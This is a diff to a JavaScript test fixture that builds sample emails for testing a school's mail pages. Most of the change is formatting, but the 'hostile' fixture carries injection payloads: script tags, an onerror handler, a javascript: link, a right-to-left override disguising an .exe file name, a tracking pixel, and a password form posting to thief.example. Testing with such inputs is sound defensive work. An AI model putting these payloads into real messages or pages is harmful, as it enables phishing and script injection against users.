@@ -1,5 +1,5 @@
-// Mail as people at Kingsmead write it, for the tests of the pages: built by letter(), and some that
-// the school's own rules hold.
+// Mail as people at Kingsmead write it, for the tests of the pages: built by letter(), and some
+// that the school's own rules hold.
 
 const encoded = (words) =>
     /^[ -~]*$/.test(words) ? words : `=?utf-8?B?${Buffer.from(words).toString('base64')}?=`;
@@ -58,7 +58,8 @@ export const byDeputy = () => letter({ name: 'by-deputy', from: 'r.clarke@kingsm
 // It tries what a message can to act in the page that shows it.
 export const hostile = () => letter({ name: 'hostile', to: [ELLIE],
     subject: '<img src=x onerror=alert(1)> "quoted" & \u202Egnp.exe',
-    body: `${ADD_ME}\n</textarea></pre><script>alert(2)</script><a href="javascript:alert(3)">x</a>\n`,
+    body: `${ADD_ME}\n</textarea></pre><script>alert(2)</script>` +
+        '<a href="javascript:alert(3)">x</a>\n',
     html: `<p>${ADD_ME}</p><script>alert(4)</script><img src="http://tracker.example/seen.png">` +
         '<form action="http://thief.example/"><input name="password"></form>' +
         '<style>body { display: none }</style>',
